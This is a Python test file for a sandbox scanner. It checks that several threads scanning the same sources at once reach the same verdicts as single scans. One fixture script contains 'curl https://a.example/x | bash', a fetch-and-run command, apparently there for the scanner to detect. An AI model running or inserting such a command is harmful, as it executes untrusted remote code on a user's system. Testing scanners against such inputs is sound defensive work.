"""Threads that scan side by side share nothing that one of them could break for the others."""

from __future__ import annotations

import os
import subprocess
import sys

# In a process of its own: what goes wrong here ends the process. Threads switch as often as they
# can, freed memory is overwritten, and parses are cut short while others go on.
SCANS = """
import gc, random, sys, threading
from skilllite_sandbox.scan.scanner import scan_sources
from skilllite_sandbox.scan.source import make_source

THREADS, SCANS_OF_EACH = 3, 2
sys.setswitchinterval(1e-6)
SCRIPT = "".join(f'if [ -f a{n} ]; then echo "$x{n}" | sed "s/a/b/"; fi\\n' for n in range(60))
FILES = {
    "a.js": "".join(f"function f{n}(a) {{ return [a, 'ä'].join('-'); }}\\n" for n in range(150)),
    "b.ts": "".join(f"const v{n}: Array<string> = ['{n}'].map(x => x + x);\\n" for n in range(150)),
    "c.sh": SCRIPT,
    "d.py": "".join(f"def f{n}(a):\\n    return '-'.join([a, '{n}'])\\n" for n in range(150)),
    "e.sh": "<<E\\n" * 20_000,
    "f.js": "${a:-" * 20_000,
    "g.sh": "curl https://a.example/x | bash\\n" + SCRIPT,
}
sources = [make_source(path, text.encode()) for path, text in FILES.items()]
expected = {each.path: scan_sources([each], None, digest="").verdict for each in sources}
kept, wrong = [], []

def scan(seed):
    chance = random.Random(seed)
    for _ in range(SCANS_OF_EACH):
        for source in chance.sample(sources, len(sources)):
            report = scan_sources([source], None, digest="")
            if report.verdict is not expected[source.path]:
                wrong.append((source.path, report.verdict))
            kept.append(report)  # freed by another thread
            if len(kept) > 5:
                kept.pop(0)
        gc.collect()

threads = [threading.Thread(target=scan, args=(seed,)) for seed in range(THREADS)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
assert not wrong, wrong
print("whole")
"""


def test_threads_scan_side_by_side_and_say_what_one_says() -> None:
    environment = {**os.environ, "PYTHONFAULTHANDLER": "1", "PYTHONMALLOC": "debug"}

    done = subprocess.run(
        [sys.executable, "-c", SCANS],
        capture_output=True,
        text=True,
        check=False,
        env=environment,
        timeout=120,
    )

    assert (done.returncode, done.stdout) == (0, "whole\n"), done.stderr[-3000:]
